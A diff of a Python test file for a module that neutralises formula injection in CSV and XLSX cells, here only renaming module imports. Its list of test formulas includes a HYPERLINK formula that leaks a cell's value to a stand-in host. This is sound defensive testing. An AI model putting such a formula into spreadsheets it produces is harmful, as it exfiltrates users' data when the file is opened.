@@ -1,4 +1,4 @@
-"""qa_core.cells: no text cell the project writes (CSV or XLSX) starts a formula, and the
+"""qa_core.io.cells: no text cell the project writes (CSV or XLSX) starts a formula, and the
 importer takes the quote back off (issue 11, finding 4)."""
 
 from __future__ import annotations
@@ -15,8 +15,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from qa_core.cells import csv_bytes, neutralise, neutralise_array, neutralise_frame, restore, restore_array
-from qa_core.importer.formats import read_sheet, to_csv_bytes, to_xlsx_bytes
+from qa_core.io.cells import csv_bytes, neutralise, neutralise_array, neutralise_frame, restore, restore_array
+from qa_core.io.importer.formats import read_sheet, to_csv_bytes, to_xlsx_bytes
 
 FORMULAS = [
     '=HYPERLINK("http://x?leak="&B2,"a")',
@@ -68,7 +68,7 @@ def test_other_text_and_whole_numbers_are_left_alone(text):
 
 
 def _opens_a_formula(cell: str) -> bool:
-    """What a spreadsheet does with a cell, written independently of qa_core.cells: a formula
+    """What a spreadsheet does with a cell, written independently of qa_core.io.cells: a formula
     when it starts with = + - @ (after spaces) or a tab or carriage return, unless it is a number
     or a lone sign."""
     if not (cell.lstrip()[:1] in ("=", "+", "-", "@") or cell[:1] in ("\t", "\r")):
